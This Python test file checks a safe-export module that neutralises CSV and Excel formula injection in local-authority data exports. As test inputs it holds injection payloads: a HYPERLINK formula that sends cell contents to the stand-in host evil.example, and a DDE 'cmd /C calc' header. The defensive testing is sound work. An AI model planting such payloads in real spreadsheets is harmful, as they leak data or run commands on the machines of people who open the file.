"""Exports must never let a local authority's text run as a formula in Excel (CSV injection).

Planted values go out through `to_csv_bytes` and `to_xlsx_bytes`, and come back as text with a
leading quote; numbers, including negative ones, and dates come back as numbers and dates.
"""

from __future__ import annotations

import csv
import datetime as dt
import io

import numpy as np
import pandas as pd
import pytest
from openpyxl import load_workbook

from annexa.security.safe_export import (
    DATE_FORMAT,
    safe_cell,
    safe_frame,
    to_csv_bytes,
    to_xlsx_bytes,
)

PLANTED = {
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")': '\'=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "+1": "'+1",
    "-2+3": "'-2+3",
    "@SUM(A1)": "'@SUM(A1)",
    "\tx": "'\tx",
    "\rx": "'\rx",
    "Ordinary text": "Ordinary text",
    "O'Brien - team 2": "O'Brien - team 2",  # a dash or quote later in the text is harmless
    "": "",
}


@pytest.fixture
def frame() -> pd.DataFrame:
    texts = list(PLANTED)
    n = len(texts)
    return pd.DataFrame(
        {
            "child_id": texts,
            "count": [-2, -1, 0, 1, 2, 3, 4, 5, 6][:n],
            "ratio": [-0.5, 1.25, np.nan, 2.0, 3.0, -4.0, 5.5, 6.0, 7.0][:n],
            "referral_date": pd.to_datetime(
                ["2024-03-05", "2024-12-31", None, "2025-01-01", "2023-06-30",
                 "2024-02-29", "2024-03-05", "2024-03-06", "2024-03-07"][:n]
            ),
            "gender": pd.Series(texts[::-1], dtype="string"),
        }
    )


# ------------------------------------------------------------------------------------ safe_cell

@pytest.mark.parametrize(("value", "expected"), list(PLANTED.items()))
def test_safe_cell_text(value, expected):
    assert safe_cell(value) == expected


@pytest.mark.parametrize("value", [-2, -2.5, 0, 3, np.int64(-7), np.float64(-1.5), True, None,
                                   dt.date(2024, 3, 5), pd.Timestamp("2024-03-05")])
def test_safe_cell_leaves_non_text_alone(value):
    assert safe_cell(value) is value


def test_safe_frame_copies_and_changes_only_text(frame):
    original = frame.copy()
    safe = safe_frame(frame)
    pd.testing.assert_frame_equal(frame, original)  # the input is untouched
    assert safe["child_id"].tolist() == list(PLANTED.values())
    assert safe["gender"].tolist() == list(PLANTED.values())[::-1]
    assert safe["gender"].dtype == frame["gender"].dtype
    for col in ("count", "ratio", "referral_date"):
        pd.testing.assert_series_equal(safe[col], frame[col])


def test_safe_frame_mixed_object_categorical_and_headers():
    df = pd.DataFrame(
        {
            "=cmd|' /C calc'!A0": ["x"],
            "mixed": pd.Series(["-1", -1], dtype=object)[:1],
            "band": pd.Categorical(["@risk"]),
        }
    )
    safe = safe_frame(df)
    assert list(safe.columns) == ["'=cmd|' /C calc'!A0", "mixed", "band"]
    assert safe["band"].tolist() == ["'@risk"]
    mixed = safe_frame(pd.DataFrame({"m": pd.Series(["-1", -1, None], dtype=object)}))["m"]
    assert mixed.tolist() == ["'-1", -1, None]  # the text "-1" is quoted, the number is not


# ------------------------------------------------------------------------------------------ CSV

def test_csv_bytes(frame):
    data = to_csv_bytes(frame)
    assert data.startswith(b"\xef\xbb\xbf")  # BOM: Excel then reads the file as UTF-8
    text = data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    header, body = rows[0], rows[1:]
    assert header == ["child_id", "count", "ratio", "referral_date", "gender"]
    assert [r[0] for r in body] == list(PLANTED.values())
    assert [r[1] for r in body] == ["-2", "-1", "0", "1", "2", "3", "4", "5", "6"]
    assert body[0][2] == "-0.5" and body[5][2] == "-4.0"  # negative numbers stay numbers
    # No field, once parsed, starts with a formula trigger.
    for row in body:
        for field in (row[0], row[4]):
            assert not field.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert b"\n=HYPERLINK" not in data and b",=HYPERLINK" not in data
    # CRLF rows, so a carriage return inside a value is quoted rather than splitting the row.
    assert data.endswith(b"\r\n") and b'"\'\rx"' in data
    assert len(body) == len(PLANTED)


# ----------------------------------------------------------------------------------------- xlsx

def _read(data: bytes):
    return load_workbook(io.BytesIO(data))


def test_xlsx_cells(frame):
    wb = _read(to_xlsx_bytes({"Sample": frame}))
    ws = wb["Sample"]
    assert [c.value for c in ws[1]] == ["child_id", "count", "ratio", "referral_date", "gender"]
    assert all(c.font.bold for c in ws[1])
    assert ws.freeze_panes == "A2"

    ids = [ws.cell(row=r, column=1) for r in range(2, 2 + len(PLANTED))]
    expected = list(PLANTED.values())
    for cell, want in zip(ids, expected, strict=True):
        assert cell.data_type != "f"  # never a formula
        if want == "":
            assert cell.value in (None, "")
        elif want == "'\rx":
            # XML parsers normalise a bare carriage return to a newline on reading.
            assert cell.value in ("'\rx", "'\nx")
        else:
            assert cell.value == want
    counts = [ws.cell(row=r, column=2).value for r in range(2, 2 + len(PLANTED))]
    assert counts == [-2, -1, 0, 1, 2, 3, 4, 5, 6]
    assert ws.cell(row=2, column=3).value == -0.5 and ws.cell(row=2, column=3).data_type == "n"
    assert ws.cell(row=4, column=3).value is None  # NaN is an empty cell


def test_xlsx_dates_are_real_dates(frame):
    ws = _read(to_xlsx_bytes({"Sample": frame}))["Sample"]
    first = ws.cell(row=2, column=4)
    assert first.is_date and first.value == dt.datetime(2024, 3, 5)
    assert first.number_format == DATE_FORMAT == "dd/mm/yyyy"
    assert ws.cell(row=4, column=4).value is None  # NaT


def test_xlsx_title_widths_and_sheet_names(frame):
    wb = _read(
        to_xlsx_bytes(
            {"Sample": frame, "Lists 1/2: [draft]" + "x" * 40: frame.head(2)},
            title="=Northmoor pre-inspection sample",
        )
    )
    assert wb.sheetnames[0] == "Sample"
    second = wb.sheetnames[1]
    assert len(second) <= 31 and not set("[]:*?/\\") & set(second)
    ws = wb["Sample"]
    assert ws["A1"].value == "'=Northmoor pre-inspection sample"  # the title is made safe too
    assert ws["A1"].font.bold
    assert [c.value for c in ws[2]] == ["child_id", "count", "ratio", "referral_date", "gender"]
    assert ws.freeze_panes == "A3"
    assert ws.cell(row=3, column=1).value == safe_cell(next(iter(PLANTED)))
    widths = {k: v.width for k, v in ws.column_dimensions.items()}
    assert widths["A"] > widths["B"]  # fitted to the long HYPERLINK text, not the title
    assert widths["A"] <= 60
    assert widths["D"] >= 10  # a dd/mm/yyyy date fits


def test_xlsx_control_characters_cannot_uncover_a_formula():
    ws = _read(to_xlsx_bytes({"s": pd.DataFrame({"t": ["\x01=1+1", "a\x02b"]})}))["s"]
    assert ws["A2"].value == "'=1+1" and ws["A3"].value == "ab"


def test_xlsx_needs_a_sheet():
    with pytest.raises(ValueError, match="at least one sheet"):
        to_xlsx_bytes({})
